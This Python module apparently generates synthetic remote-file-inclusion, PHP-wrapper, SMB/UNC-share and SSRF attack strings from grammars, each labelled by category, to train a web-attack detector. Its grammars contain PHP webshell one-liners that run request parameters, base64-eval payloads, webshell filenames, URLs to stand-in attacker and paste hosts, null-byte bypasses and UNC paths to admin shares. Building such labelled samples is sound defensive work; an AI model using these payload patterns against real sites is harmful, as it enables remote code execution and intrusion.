"""Remote file inclusion: a script of another host in the role of a file; shares of other hosts."""

from __future__ import annotations

from base64 import b64encode
from random import Random
from urllib.parse import quote

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.kinds import COOKIE, VALUE, AttackKind
from securitai.train.corpora.normal.base import host as public_host
from securitai.verdict import Category

_CODE = Grammar(
    r"""
code:
  <?php ‹call›‹;¦; ?>¦;die;?>¦ ?>›
  <?=‹call›‹?>¦;?>›
  <? ‹call›; ?>
  <?php echo "‹az›"; ‹call›; ?>
  <?php @‹call›;
call:
  ‹system¦passthru¦shell_exec¦exec¦popen›(‹input›)
  ‹system¦passthru¦shell_exec¦exec›('‹ucmd0›')
  ‹eval¦assert›(‹input›)
  eval(base64_decode(‹input›))
  echo md5(‹#1-9999›)
  phpinfo(‹e›)
  echo `‹input›`
  echo ‹file_get_contents¦readfile›('‹u_file›')
  print(‹#10-999›*‹#10-999›)
  ‹include¦require_once›(‹input›)
input = $_GET['cmd']¦$_POST['c']¦$_REQUEST[0]¦$_GET[x]¦$_SERVER['HTTP_X']¦$_COOKIE['a']¦$_POST[1]¦$_REQUEST['‹az›']¦$_GET["‹az›"]
""",
    PARTS,
)
_PHP = _CODE.maker("code")


def base64_php(rng: Random) -> str:
    """A line of PHP in base64, as ``data:`` wrappers carry it; at times percent-encoded."""
    text = b64encode(_PHP(rng).encode()).decode()
    return quote(text, safe="") if rng.random() < 0.3 else text


def quoted_php(rng: Random) -> str:
    """A line of PHP, percent-encoded at times."""
    text = _PHP(rng)
    return quote(text) if rng.random() < 0.4 else text


_G = Grammar(
    r"""
shellname = c99¦r57¦c100¦b374k¦wso¦wso2¦alfav4¦indoxploit¦p0wny¦weevely¦antsword¦behinder¦caidao¦locus7s¦safe0ver¦fx29¦fx29sh¦madspot¦priv8¦k2ll33d¦ani-shell¦c37¦antichat¦filesman¦0byt3m1n1¦shell¦webshell¦cmd¦backdoor¦pwn¦pwned¦evil¦rce¦rfi¦revshell¦reverse_shell¦php-reverse-shell¦simple-backdoor¦malware¦sh3ll¦bindshell¦cmdshell¦phpshell¦hacked¦owned¦xpl¦sploit¦r0nin¦backconnect¦php-backdoor
loosename = exploit¦payload¦bypass¦uploader¦up¦hack¦poc¦inject¦inc¦bot¦scan¦deface¦root¦bd¦eval¦sh¦mailer¦dropper¦stager¦flood¦china¦alfa¦mini¦locus¦gaza¦erne¦id¦test¦spread¦load¦info¦phpinfo¦echo¦rooted¦reverse
glue = ¦-¦_¦.
digits = ¦¦¦1¦2¦3¦v2¦4.0¦_new¦-priv¦99
code1 = php¦txt¦php¦txt¦inc¦phtml¦php5¦jsp¦asp¦aspx¦cfm¦pl
file1 = txt¦txt¦txt¦inc¦dat¦tpl¦log¦bak¦php.txt¦gif¦jpg¦php¦png
named:
  5×‹shellname›‹digits›.‹code1›
  2×‹shellname›‹glue›‹shell¦sh¦sh3ll›‹digits›.‹code1›
  2×‹az›‹glue›‹shellname›.‹code1›
  ‹shellname›‹glue›‹loosename›.‹code1›
  ‹shellname›.php.‹txt¦jpg¦gif¦png›
  ‹images¦uploads¦tmp¦files¦pub¦tools¦.x›/‹shellname›.‹code1›
loose:
  4×‹named›
  3×‹loosename›‹digits›.‹file1›
  ‹loosename›‹glue›‹loosename›.‹file1›
  ‹images¦uploads¦tmp¦files¦pub¦tools¦.x›/‹shellname›.‹file1›
plain:
  3×‹az›.‹text1›
  ‹word1›/‹az›.‹text1›
  ‹images¦uploads¦tmp¦files¦media¦stories›/‹az›.‹text1›
  ‹az›/‹az›/‹az›.‹text1›
  ‹readme¦robots¦license¦test¦info¦hello¦config›.txt
text1 = txt¦txt¦txt¦inc¦dat¦tpl¦log¦bak
where:
  5×‹pub›
  2×‹ip›
  ‹ip›:‹port›
  ‹syl›.‹tld›
  ‹syl›.‹tld›:‹#1024-65535›
  ‹evil›.‹tld›
  ‹sub0›.‹oob›
address:
  3×‹ip›
  ‹ip›:‹port›
  ‹evil›.‹tld›
  ‹sub0›.‹oob›
sub0 = ‹rnd›¦‹az›
scheme = http://¦http://¦http://¦http://¦https://¦https://¦ftp://¦//¦hTTp://¦HTTP://¦HtTpS://¦http:\\¦http:/¦http:///¦http%3A%2F%2F¦http%253A%252F%252F¦http:%2f%2f¦php://filter/resource=http://¦httphttp://://¦/http://¦ftps://¦feed:http://
end = ?¦?¦?¦?¦??¦???¦%00¦%00¦%2500¦%3F¦%3f¦%253f¦%23¦?%00¦%00.jpg¦?.php¦%00.php¦?.html¦%00?¦\0¦?a=.php¦%0a¦?.inc¦#.php
cutend = ??¦???¦%00¦%2500¦?%00¦%00.jpg¦?.php¦%00.php¦%00?¦?.inc¦?a=.php¦\0¦#.php
cmdend:
  ?‹cmd¦exec¦command›=‹ucmd0›
  ?&‹cmd¦c¦exec›=‹ucmd0›
  &‹cmd¦c¦exec›=‹ucmd0›
  %00&‹cmd¦c¦exec›=‹ucmd0›
  ??&‹cmd¦c¦x›=‹ucmd0›
named_url:
  5×‹scheme›‹where›/‹named›
  4×‹scheme›‹where›/‹loose›‹end›
  2×‹scheme›‹where›/‹loose›‹cmdend›
  ftp://‹user›:‹rnd›@‹where›/‹named›‹?end›
  ftp://anonymous:‹az›@‹where›/‹named›‹?end›
  2×https://raw.githubusercontent.com/‹syl›/‹repo›/‹master¦main›/‹?dirs›‹named›‹?end›
  https://github.com/‹syl›/‹repo›/raw/‹master¦main›/‹named›‹?end›
  https://‹gitlab.com¦bitbucket.org›/‹syl›/‹repo›/raw/‹master¦main›/‹named›
  https://gist.githubusercontent.com/‹syl›/‹hexrun›/raw/‹named›‹?end›
  https://‹transfer.sh¦file.io¦0x0.st¦temp.sh¦files.catbox.moe›/‹rnd›/‹named›
repo = webshell¦webshells¦php-webshells¦shells¦‹syl›¦b374k¦backdoors¦PHP-Backdoor¦shell-collection¦‹syl›-shell¦wso¦p0wny-shell
dirs = php/¦shells/¦‹syl›/¦Php/
ended_url:
  5×‹scheme›‹where›/‹plain›‹end›
  2×‹scheme›‹where›/‹az›.‹file1›‹cutend›
  2×‹scheme›‹where›/‹plain›‹cmdend›
  2×‹scheme›‹address›/‹az›.‹file1›‹end›
  ‹scheme›‹address›/‹rnd›‹cutend›
  ‹scheme›‹address›/‹end›
  ‹scheme›‹where›‹cutend›
  2×https://‹paste›‹rnd›‹?slash›‹pend›
  http://‹where›/‹plain›?‹az›=
  ftp://‹user›:‹rnd›@‹where›/‹plain›‹end›
  https://raw.githubusercontent.com/‹syl›/‹syl›/‹master¦main›/‹plain›‹pend›
slash = /
pend = ?¦??¦%00¦?cmd=id¦?%00¦#.php¦%23¦?.php
paste = pastebin.com/raw/¦paste.ee/r/¦hastebin.com/raw/¦rentry.co/raw/¦dpaste.com/raw/¦pastebin.com/raw.php?i=¦termbin.com/¦ix.io/¦sprunge.us/
wrapper:
  3×data:‹dslash›‹dmime›;base64,‹b64php›
  3×data:‹dslash›‹dmime›,‹php›
  php://input‹?pend›
  php://input‹cmdend›
  ‹pHp¦PHP¦Php›://‹input¦INPUT¦InPut›‹?pend›
  php://input%00
  expect://‹ucmd0›
  ‹EXPECT¦Expect›://‹ucmd0›
  zip://‹?updir›‹az›.‹jpg¦png¦zip¦gif¦docx›‹#¦%23›‹shellname›‹?dotphp›
  phar://‹?updir›‹az›.‹jpg¦png¦phar¦gif¦zip¦tar.gz›/‹shellname›.‹php¦txt›
  phar://‹?updir›‹az›.‹jpg¦phar¦gif›
  ‹compress.zlib¦compress.bzip2›://‹http://¦ftp://›‹where›/‹named›
  rar://‹?updir›‹az›.rar%23‹shellname›.php
  glob://‹/var/www¦/etc¦/home¦/tmp›/‹az›*
  ssh2.‹exec¦sftp¦shell›://‹user›:‹rnd›@‹where›:22/‹ucmd0›
dslash = //¦//¦¦:
dmime = text/plain¦text/plain¦text/html¦¦application/x-httpd-php¦image/png¦text/php¦text/x-php
updir = uploads/¦./uploads/¦/tmp/¦/var/www/html/uploads/¦../uploads/¦avatars/¦./
dotphp = .php
smb:
  2×\\‹where›\‹az›\‹named›
  \\‹where›\‹share¦public¦smb¦files¦www›\‹az›.‹php¦asp¦aspx¦inc›
  //‹where›/‹share¦smb¦www›/‹named›
  \\\\‹where›\\‹az›\\‹named›
  smb://‹where›/‹az›/‹named›
  file:‹//¦////¦\\\\›‹where›/‹az›/‹named›
  ‹where›/‹shellname›.‹php¦txt›‹end›
unc:
  3×\\‹outer›\‹az›
  \\‹outer›\‹share¦c$¦a¦x¦files¦ipc$¦public¦test›\‹az›.‹txt¦png¦jpg¦dll¦exe¦php¦xml¦ini›
  \\‹outer›@‹80¦443¦8080¦SSL¦SSL@443›\‹share¦a¦x¦DavWWWRoot›\‹az›
  \\\\‹outer›\\‹az›\\‹az›
  //‹outer›/‹c$¦ipc$¦admin$¦share$›/‹az›
  file:‹//¦////¦\\\\›‹outer›/‹az›/‹az›.‹txt¦dll¦png›
  \\?\UNC\‹outer›\‹az›\‹az›
  \\localhost\c$\‹windows\win.ini¦boot.ini¦inetpub\wwwroot\web.config¦users\administrator›
  \\127.0.0.1\‹c$¦admin$¦ipc$¦d$›\‹az›
outer:
  2×‹ip›
  ‹rnd›.‹oob›
  2×‹evil›.‹tld›
  ‹syl›.‹tld›
""",
    PARTS,
    {"b64php": base64_php, "php": quoted_php, "pub": public_host},
)
KINDS = (
    AttackKind("rfi.named", Category.RFI, _G.maker("named_url"), 1.2, (VALUE, COOKIE)),
    AttackKind("rfi.ended", Category.RFI, _G.maker("ended_url"), 1.2, (VALUE, COOKIE)),
    AttackKind("rfi.wrapper", Category.PATH_TRAVERSAL, _G.maker("wrapper"), 0.5, (VALUE, COOKIE)),
    AttackKind("ssrf.unc", Category.SSRF, _G.maker("unc"), 0.3, (VALUE,)),
    AttackKind("rfi.share", Category.RFI, _G.maker("smb"), 0.3, (VALUE,)),
)
